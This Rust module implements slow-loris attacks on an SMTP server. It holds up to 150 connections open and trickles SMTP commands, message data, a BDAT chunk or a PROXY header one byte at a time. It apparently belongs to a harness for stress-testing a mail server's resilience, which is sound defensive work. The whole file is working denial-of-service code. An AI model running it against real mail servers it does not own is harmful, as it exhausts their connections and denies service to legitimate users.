//! Slow-loris: very many connections, each with an octet now and then.

use std::io::{self, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

use crate::words;

use super::Attacker;

/// Connections of each of these attacks.
const MANY: usize = 150;
/// Between two octets of a connection.
const PAUSE: Duration = Duration::from_millis(200);

/// Commands, an octet at a time.
pub fn commands(attacker: &mut Attacker<'_>) -> u64 {
    let words = b"EHLO slow.example\r\nMAIL FROM:<a@slow.example>\r\nRCPT TO:<slow@example.org>\r\n";
    trickle(attacker, attacker.target.smtp, words, |_| Ok(()))
}

/// Message data, an octet at a time.
pub fn data(attacker: &mut Attacker<'_>) -> u64 {
    let words = b"Subject: slow\r\n\r\nslow\r\n";
    trickle(attacker, attacker.target.smtp, words, |stream| words::begin(stream, "slow@example.org"))
}

/// A chunk, an octet at a time.
pub fn chunks(attacker: &mut Attacker<'_>) -> u64 {
    trickle(attacker, attacker.target.smtp, b"slow", |stream| {
        words::hear(stream, 220)?;
        words::say(stream, "EHLO slow.example\r\n", 250)?;
        words::say(stream, "MAIL FROM:<a@slow.example>\r\n", 250)?;
        words::say(stream, "RCPT TO:<slow@example.org>\r\n", 250)?;
        stream.write_all(b"BDAT 1000000\r\n")
    })
}

/// The header of a proxy, an octet at a time.
pub fn proxies(attacker: &mut Attacker<'_>) -> u64 {
    let words = b"PROXY TCP4 192.0.2.1 192.0.2.2 50000 25\r\n";
    trickle(attacker, attacker.target.proxied, words, |_| Ok(()))
}

/// Holds connections that have begun, each of which says an octet of `words` at a time, over and over.
fn trickle(
    attacker: &mut Attacker<'_>,
    to: SocketAddr,
    words: &[u8],
    begin: impl Fn(&mut TcpStream) -> io::Result<()>,
) -> u64 {
    let mut held: Vec<TcpStream> = Vec::new();
    let mut octets = 0;
    while !attacker.is_over() {
        let octet = words[octets as usize % words.len()];
        held.retain_mut(|stream| stream.write_all(&[octet]).is_ok());
        octets += 1;
        if held.len() < MANY
            && let Ok(mut stream) = attacker.connect(to)
            && begin(&mut stream).is_ok()
        {
            held.push(stream);
        } else {
            std::thread::sleep(PAUSE);
        }
    }
    octets
}
